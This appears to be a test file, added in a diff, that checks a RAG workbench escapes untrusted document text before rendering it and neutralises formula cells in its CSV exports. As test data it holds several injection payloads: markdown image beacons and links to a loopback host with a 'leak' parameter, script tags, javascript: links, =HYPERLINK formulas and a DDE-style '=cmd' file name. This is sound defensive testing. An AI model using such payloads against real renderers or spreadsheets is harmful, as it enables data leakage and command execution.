@@ -1,0 +1,122 @@
+"""Document text shown as text (rendered through a real CommonMark parser with HTML on), and every CSV
+export path neutralising formula cells while numbers stay numbers."""
+
+from __future__ import annotations
+
+import csv
+import html
+import io
+import re
+
+import pandas as pd
+import pytest
+from markdown_it import MarkdownIt
+
+from lightrag_core import Engine, QueryParam
+from lightrag_core.workbench.compare import compare_question
+from lightrag_core.workbench.csv_export import frame_csv, neutralise, rows_csv
+from lightrag_core.workbench.result_tables import chunk_rows
+from lightrag_core.workbench.review import Reviewer, reviews_csv
+from lightrag_core.workbench.safe_text import TextStream, as_text
+
+HOSTILE = [
+    "![x](http://127.0.0.1:9/?d=leak)",
+    "<img src=http://127.0.0.1:9/i.png> and <script>alert(1)</script>",
+    "autolink <http://127.0.0.1:9/auto> and bare http://127.0.0.1:9/auto and www.example.org",
+    "[a link](javascript:alert(1)) &lt;entity&gt; &#60; $x^2$ :red[shout] :material/home:",
+    "# heading\n- bullet\n1. item\n> quote\n```\ncode\n```\n| a | b |\n|---|---|",
+    "back\\slash *em* _em_ `code` ~~strike~~ [ref]: http://127.0.0.1:9/ref",
+]
+_TAG = re.compile(r"<[^>]+>")
+
+
+def _visible(markdown: str) -> str:
+    return " ".join(html.unescape(_TAG.sub(" ", MarkdownIt("commonmark", {"html": True}).render(markdown))).split())
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_document_text_renders_as_the_same_text_and_nothing_else(text):
+    rendered = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough").render(as_text(text))
+    tags = set(re.findall(r"<(\w+)", rendered))
+    assert tags <= {"p", "br"}, rendered  # no img, a, script, h1, li, code, table …
+    assert _visible(as_text(text)) == " ".join(text.split())
+
+
+def test_unescaped_the_same_text_would_load_and_link():  # the check above can fail: it sees the danger
+    rendered = MarkdownIt("commonmark", {"html": True}).render(HOSTILE[0] + "\n\n" + HOSTILE[1])
+    assert "<img" in rendered and "<script>" in rendered
+
+
+def test_lines_stay_lines():
+    assert as_text("one\ntwo\r\nthree") == "one  \ntwo  \nthree"
+
+
+def test_a_stream_is_escaped_part_by_part_and_keeps_the_raw_answer():
+    stream = TextStream(iter(["Paris ", "![x](http://h/?d=", "1)", "\nend"]))
+    shown = "".join(stream)
+    assert stream.text == "Paris ![x](http://h/?d=1)\nend"
+    assert shown == as_text(stream.text)
+
+
+@pytest.mark.parametrize("cell", ["=HYPERLINK(\"http://x\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
+def test_formula_cells_get_a_leading_quote(cell):
+    assert neutralise(cell) == "'" + cell
+
+
+@pytest.mark.parametrize("cell", [-3, 2.5, 0, None, True, "plain", "a=b", "", "'already"])
+def test_other_cells_are_unchanged(cell):
+    assert neutralise(cell) == cell
+
+
+def _read(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def test_frames_keep_numbers_and_neutralise_text_and_headers():
+    out = _read(frame_csv(pd.DataFrame([{"n": -3, "x": 1.5, "s": "=1+1", "=h": "ok"}])))
+    assert out == [{"n": "-3", "x": "1.5", "s": "'=1+1", "'=h": "ok"}]
+
+
+def test_rows_csv_uses_the_given_columns():
+    assert _read(rows_csv([{"a": "@x", "b": 2, "extra": "dropped"}], ["a", "b"])) == [{"a": "'@x", "b": "2"}]
+
+
+FORMULA_DOC = ("Marie Curie worked in Paris at the Sorbonne. "
+               "=HYPERLINK(\"http://127.0.0.1:9/?d=leak\",\"click\") was written by Marie Curie in Paris.")
+
+
+@pytest.fixture(scope="module")
+def formula_engine(tmp_path_factory):
+    from lightrag_core import Settings
+
+    engine = Engine(Settings.from_env(tmp_path_factory.mktemp("formula"), llm_model="", neo4j_uri="",
+                                      embedding_model=""))
+    report = engine.index_uploads([], None, [("=cmd|' /C calc'!A0", FORMULA_DOC)])
+    assert not report.failed, report.failed
+    yield engine
+    engine.close()
+
+
+def test_the_query_chunks_export_neutralises_document_text(formula_engine):
+    result = formula_engine.query_data("HYPERLINK", QueryParam(mode="naive"))
+    rows = _read(frame_csv(pd.DataFrame(chunk_rows(result))))
+    assert rows and all(not r["content"].startswith(("=", "+", "-", "@")) for r in rows)
+    assert any(r["content"].startswith("Marie Curie") for r in rows)
+    assert rows[0]["tokens"].isdigit()
+
+
+def test_the_compare_export_neutralises_questions_and_answers(formula_engine):
+    rows = compare_question(formula_engine, "=HYPERLINK(\"http://x\")", ["naive"], answers=False)
+    table = pd.DataFrame([{"question": "=HYPERLINK(\"http://x\")", **r} for r in rows])
+    out = _read(frame_csv(table))
+    assert out[0]["question"] == "'=HYPERLINK(\"http://x\")" and out[0]["mode"] == "naive"
+    assert float(out[0]["chunks_kept"]) >= 1
+
+
+def test_the_review_history_export_neutralises_items_and_comments(formula_engine):
+    engine = formula_engine
+    reviewer = Reviewer(engine.store, engine.embedder, engine.summariser, "@reviewer")
+    reviewer.approve("entity", "=1+2", "-looks right")
+    out = _read(reviews_csv(reviewer.history()))
+    assert {k: out[0][k] for k in ("item", "comment", "reviewer", "decision")} == {
+        "item": "'=1+2", "comment": "'-looks right", "reviewer": "'@reviewer", "decision": "approve"}
